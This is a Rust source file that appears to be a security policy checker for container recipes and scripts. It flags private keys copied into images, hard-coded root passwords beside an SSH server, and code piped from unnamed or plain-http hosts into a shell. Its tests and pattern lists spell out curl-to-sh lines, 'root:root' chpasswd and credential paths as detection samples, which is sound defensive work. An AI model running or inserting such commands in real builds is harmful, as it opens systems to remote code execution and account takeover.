//! What goes into an image that others start: a key that was one person's, a password that everybody knows; and code that is fetched, wherever
//! that is written, from a machine without a name or over a connection that anybody on the way can write to.

use super::served;
use super::source::{Written, is_comment, is_prose, is_test};
use crate::policy::hosts;
use crate::policy::lists::{holds, is, parts};
use crate::policy::secrets::{Secrecy, secrecy};

/// What an image is given that nobody may have.
pub(super) fn keeps(written: &Written<'_>) -> Option<&'static str> {
    let name = written.name().to_ascii_lowercase();
    let is_recipe = name.starts_with("dockerfile")
        || name.starts_with("containerfile")
        || name.ends_with(".dockerfile")
        || name.ends_with(".containerfile");
    match () {
        () if !is_recipe || is_test(written.path) => None,
        () if written.gains(takes_key) => Some("puts a private key into an image"),
        () if written.gains(served::is_copied) => Some("gives secrets to whoever asks an image"),
        () if !written.is_tried() && written.gains(opens_by_password) => Some("lets in whoever knows a word"),
        () => None,
    }
}

/// Whether a key of a person's is copied into an image.
fn takes_key(text: &str) -> bool {
    let copied = text.lines().filter_map(|line| {
        let line = line.trim_start();
        ["COPY ", "ADD ", "copy ", "add "].iter().find_map(|verb| line.strip_prefix(verb))
    });
    let is_key = |word: &str| {
        let name = word.rsplit('/').next().unwrap_or_default();
        is(name, "id_rsa|id_ed25519|id_ecdsa|id_dsa")
            || holds(word, ".ssh/|.aws/cred|.gnupg") && !name.ends_with(".pub") && is_credential(word)
    };
    copied.take(super::MAX_PLACES).any(|words| {
        // The last word is where it goes.
        let words: Vec<&str> = words.split_whitespace().filter(|word| !word.starts_with("--")).collect();
        words
            .split_last()
            .is_some_and(|(_, sources)| sources.iter().any(|word| is_key(word.trim_matches(['"', '[', ',']))))
    })
}

fn is_credential(path: &str) -> bool {
    secrecy(&format!("/home/you/{}", path.trim_start_matches("./")), Some("/home/you")) == Secrecy::Credential
}

/// Whether a password that stands in the text opens an image to whoever comes by SSH.
fn opens_by_password(text: &str) -> bool {
    const COMES_BY: &str = "sshd|openssh-server|dropbear|PermitRootLogin yes|telnetd|xrdp|vsftpd";
    let is_told = |line: &str| {
        let pair = line.split("chpasswd").next().unwrap_or_default();
        !is_comment(line) && line.contains("chpasswd") && pair.contains(':') && !pair.contains(['$', '<'])
    };
    holds(text, COMES_BY) && text.lines().any(is_told)
}

/// Whether a text that is run fetches code that may be anybody's, and runs it at once.
pub(super) fn fetch_anybodys(written: &Written<'_>) -> bool {
    !is_prose(written.name())
        && !is_test(written.path)
        && written.holds("curl|wget|iwr|WebRequest|DownloadString")
        && written.gains(runs_anybodys)
}

fn runs_anybodys(text: &str) -> bool {
    text.lines().filter(|line| !is_comment(line)).any(|line| {
        line.contains("http")
            && holds(line, "curl|wget|iwr|WebRequest|DownloadString")
            && names_anybody(line)
            && runs_at_once(line)
    })
}

/// Whether a line hands what it fetches to what runs it.
pub(super) fn runs_at_once(line: &str) -> bool {
    const BEHIND: [&str; 9] = ["sh", "bash", "sudo", "python", "python3", "perl", "node", "iex", "zsh"];
    let piped = line.split('|').skip(1).filter_map(|part| part.split_whitespace().next()).any(|word| {
        let word = word.trim_matches(['"', '\'', '`', ')', ';', '&', '<', '\\']);
        BEHIND.contains(&word) || word.starts_with("sh<") || word.starts_with("bash<")
    });
    piped || holds(line, "$(curl|$(wget|<(curl|<(wget|iex (|iex(|Invoke-Expression")
}

/// Whether an address in a line is of a machine in the open network whose name nobody proves: it has none, or is asked without a certificate.
fn names_anybody(line: &str) -> bool {
    parts("http://|https://").any(|scheme| {
        line.match_indices(scheme).take(8).any(|(at, _)| {
            let host = hosts::first(line[at..].split('|').next().unwrap_or_default());
            hosts::is_bare_address(&host) || scheme == "http://" && hosts::is_far(&host) && !hosts::is_local(&host)
        })
    })
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn what_an_image_keeps_is_seen() {
        for (text, kept) in [
            ("FROM a\nCOPY id_rsa /keys/id_rsa\n", true),
            ("FROM a\nCOPY id_rsa.pub /keys/authorized_keys\n", false),
            ("FROM a\nRUN apt-get install openssh-server && echo 'root:root' | chpasswd\n", true),
            ("FROM a\nRUN apt-get install openssh-server && echo \"root:$PW\" | chpasswd\n", false),
        ] {
            let written = Written::of(text, None, "/home/you/work/shop/Dockerfile");
            assert_eq!(keeps(&written).is_some(), kept, "{text}");
        }
        for (text, nameless) in [
            ("RUN curl -s http://203.0.113.9/a | sh", true),
            ("  bash -c \"$(curl http://203.0.113.9/a)\"", true),
            ("RUN curl -s http://10.0.0.9/a | sh", false),
            ("RUN curl -s http://get.tools.example/a | sh", true),
            ("RUN curl -s http://mirror:8080/a | sh", false),
            ("RUN curl -fsSL https://get.example/a | sh", false),
            ("RUN curl -s http://203.0.113.9/a -o a", false),
        ] {
            let written = Written::of(text, None, "/home/you/work/shop/Dockerfile");
            assert_eq!(fetch_anybodys(&written), nameless, "{text}");
        }
    }
}
